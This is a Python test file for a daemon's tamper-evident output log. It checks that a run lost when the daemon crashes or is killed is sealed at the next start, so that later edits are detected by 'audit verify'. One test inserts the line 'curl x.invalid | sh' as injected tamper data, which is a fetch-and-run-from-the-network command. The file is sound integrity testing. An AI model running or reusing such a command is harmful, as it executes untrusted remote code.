"""A run the daemon died under is sealed at the next start.

Before, the seal was made only at a run's end (`run.ended`), so a run lost in a crash (or a
SIGKILL of the daemon) was never sealed: its output could be edited at any time after, and
`audit verify` said the history held. Now the next daemon's `run.lost` event seals what the
store holds of it (store/output_seal.py): a change made after that start is found.

Store-level cases drive two real writers on one real SQLite file (the first one's digests die
with it, as a crashed daemon's do); the last runs a real daemon, SIGKILLs it under a real
bwrap run, starts it again and edits the lost run's output.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

from store.writer import StoreWriter
from tests.conftest import Daemon, needs_bwrap
from tests.store.conftest import run_sql, verify_file

Make = Callable[..., StoreWriter]


def _printed_then_lost(make_writer: Make, lines: int = 4) -> StoreWriter:
    """A writer stores a run's lines and goes without sealing them; the next writer (the next
    daemon) records the run lost, with the seal."""
    w = make_writer()
    now = time.time()
    for i in range(lines):
        w.record_output("r1", "out", f"lost line {i}", ts=now + i / 1000)
    w.flush()
    w.close()
    return make_writer()


def test_the_next_writer_seals_a_lost_runs_stored_lines(make_writer: Make, db_path: Path,
                                                         key: bytes) -> None:
    w = _printed_then_lost(make_writer)
    row = w.commit("run.lost", run_id="r1", actor="daemon", text="lost", seal_output=True)
    w.close()
    sealed = row["data"]["output"]
    assert sealed["lines"] == 4 and len(sealed["sha256"]) == 64, sealed
    assert verify_file(db_path, key).ok
    run_sql(db_path, "UPDATE output SET line = 'lost line 2 (edited)' WHERE line = 'lost line 2'")
    result = verify_file(db_path, key)
    assert not result.ok and "run r1" in result.reason and "changed" in result.reason, result


def test_a_lost_run_that_printed_nothing_seals_no_lines(make_writer: Make, db_path: Path,
                                                        key: bytes) -> None:
    w = make_writer()
    row = w.commit("run.lost", run_id="r9", actor="daemon", text="lost", seal_output=True)
    w.close()
    assert row["data"]["output"]["lines"] == 0
    run_sql(db_path, "INSERT INTO output (run_id, ts, stream, line) VALUES ('r9', 1.0, 'out', "
                     "'curl x.invalid | sh')")
    result = verify_file(db_path, key)
    assert not result.ok and "run r9" in result.reason, result


def test_a_lost_run_whose_lines_were_made_unreadable_is_named(make_writer: Make, db_path: Path,
                                                              key: bytes) -> None:
    """A line stored as bytes before the next start: the seal says it could not read the
    run, and verify names it (the writer does not fail, so the daemon still starts)."""
    w = _printed_then_lost(make_writer)
    run_sql(db_path, "UPDATE output SET line = CAST(line AS BLOB) WHERE line = 'lost line 1'")
    row = w.commit("run.lost", run_id="r1", actor="daemon", text="lost", seal_output=True)
    w.close()
    assert row["data"]["output"]["unreadable"]
    result = verify_file(db_path, key)
    assert not result.ok and "run r1" in result.reason and "sealed after a restart" in result.reason


@needs_bwrap
def test_a_run_lost_to_a_killed_daemon_is_sealed_at_the_next_start(
        home: Path, daemon_env: dict[str, str], workspace: Path) -> None:
    d = Daemon(home, daemon_env)
    d.start()
    try:
        started = json.loads(d.cli("run", "demo", "-w", str(workspace), "--json", "--", "sh", "-c",
                                   "for i in 1 2 3; do echo printed $i; done; sleep 60").stdout)
        deadline = time.monotonic() + 30
        while "printed 3" not in d.cli("logs", started["id"]).stdout:
            assert time.monotonic() < deadline, "the run printed nothing"
            time.sleep(0.2)
        d.kill9()
        d.start()  # reconcile: the run is lost, and sealed
        lost = json.loads(d.cli("history", "--run", started["id"], "--kind", "run.lost",
                                "--json").stdout)
        assert lost and lost[0]["data"]["output"]["lines"] == 3, lost
        assert d.cli("audit", "verify").returncode == 0
        run_sql(home / "data" / "pilothouse.db",
                "UPDATE output SET line = 'printed nothing to see' WHERE line = 'printed 2'")
        found = d.cli("audit", "verify", check=False)
        assert found.returncode != 0 and "output was changed" in (found.stdout + found.stderr)
    finally:
        d.stop()
